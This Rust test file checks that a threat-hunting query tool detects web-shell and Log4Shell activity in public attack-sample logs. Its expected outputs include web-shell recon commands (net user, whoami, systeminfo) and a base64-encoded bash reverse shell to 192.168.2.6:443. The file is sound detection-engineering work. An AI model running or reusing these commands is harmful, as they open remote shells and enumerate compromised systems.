//! The seed query on real public data (../shared/corpus): the attacks its signals cover.

use std::process::Command;

const BIN: &str = env!("CARGO_BIN_EXE_cqlhunt");
const SEED: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/seed/seed.cql");
const EVTX: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/corpus/EVTX-ATTACK-SAMPLES");

fn rows(files: &[&str]) -> Vec<serde_json::Value> {
    let mut args = vec!["run", "--lenient", "-q", "-o", "ndjson", "-f", SEED];
    args.extend_from_slice(files);
    let out = Command::new(BIN).args(&args).output().expect("run");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).expect("row")).collect()
}

fn has(rows: &[serde_json::Value], computer: &str, parent: &str, cmd: &str) -> bool {
    rows.iter().any(|r| {
        r["ComputerName"] == computer
            && r["ParentBaseFileName"] == parent
            && r["CommandLine"] == cmd
            && r["DetectionType"] == "WebShell_ChildProcess"
            && r["SeverityRating"] == "Critical"
    })
}

#[test]
fn iis_web_shells_in_the_evtx_samples() {
    let lm = format!("{EVTX}/Lateral Movement/LM_typical_IIS_webshell_sysmon_1_10_traces.evtx");
    let ex = format!("{EVTX}/Execution/exec_sysmon_webshell_w3wp_enum.evtx");
    let r = rows(&[&lm, &ex]);
    assert!(has(&r, "IEWIN7", "w3wp.exe", "\"c:\\windows\\system32\\cmd.exe\" /c net user"), "{r:#?}");
    for c in ["whoami", "systeminfo", "dir"] {
        let cmd = format!("\"c:\\windows\\system32\\cmd.exe\" /c {c}");
        assert!(has(&r, "win10.windomain.local", "w3wp.exe", &cmd), "{c}: {r:#?}");
    }
    assert_eq!(r.len(), 4, "{r:#?}");
}

const SD: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/corpus/Security-Datasets/datasets");

#[test]
fn proxylogon_w3wp_whoami_from_sysmon_and_security_4688_read_from_the_zip() {
    let zip = format!("{SD}/atomic/windows/persistence/host/proxylogon_ssrf_rce_poc.zip");
    let r = rows(&[&zip]);
    assert_eq!(r.len(), 1, "{r:#?}");
    assert!(has(&r, "MXS01.azsentinel.local", "w3wp.exe", "cmd /c whoami"), "{r:#?}");
    // Two Sysmon 1 and two Security 4688 records of the same two processes.
    assert_eq!(r[0]["EventCount"], 4);
    let q = "#event_simpleName=ProcessRollup2 ParentBaseFileName=w3wp.exe FileName=cmd.exe | groupBy([EventID])";
    let out = Command::new(BIN).args(["run", "-q", "-o", "ndjson", "-e", q, &zip]).output().expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("{\"EventID\":\"1\",\"_count\":2}"), "{text}");
    assert!(text.contains("{\"EventID\":\"4688\",\"_count\":2}"), "{text}");
}

fn query(q: &str, input: &str) -> String {
    let out = Command::new(BIN).args(["run", "-q", "-o", "ndjson", "-e", q, input]).output().expect("run");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn linux_web_servers_spawning_shells() {
    // auditd: apache2 and php-fpm workers running sh (the seed's test 4).
    let log = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/read/auditd/apache_sh.log");
    let q =
        "#event_simpleName=ProcessRollup2 event_platform=Lin | groupBy([ParentBaseFileName, FileName, CommandLine])";
    let out = query(q, log);
    assert!(
        out.contains(r#"{"ParentBaseFileName":"apache2","FileName":"dash","CommandLine":"/bin/sh -c id","_count":1}"#),
        "{out}"
    );
    assert!(
        out.contains(
            r#"{"ParentBaseFileName":"php-fpm8.2","FileName":"dash","CommandLine":"sh -c id & uname -a","_count":1}"#
        ),
        "{out}"
    );
    // Log4Shell, Sysmon for Linux in syslog: Tomcat's java spawning bash (the record was cut by
    // syslog; its fields before the cut are kept).
    let zip = format!("{SD}/compound/Log4Shell/syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip");
    let out = query("#event_simpleName=ProcessRollup2 ParentBaseFileName=java | groupBy([ComputerName, FileName, UserName, CommandLine])", &zip);
    assert!(
        out.contains(r#"{"ComputerName":"UBUNTU5","FileName":"bash","UserName":"tomcat","CommandLine":"bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}","_count":1}"#),
        "{out}"
    );
}

#[test]
fn an_auditd_event_missing_its_half_is_reported_and_the_rest_read() {
    let log = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/read/auditd/apache_sh.log");
    let out = Command::new(BIN).args(["run", "-o", "ndjson", "-e", "count()", log]).output().expect("run");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("apache_sh.log:16: audit event 84142: an EXECVE record without its SYSCALL record"), "{err}");
    assert!(err.contains("5 events read, 1 records skipped"), "{err}");
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "{\"_count\":5}");
}
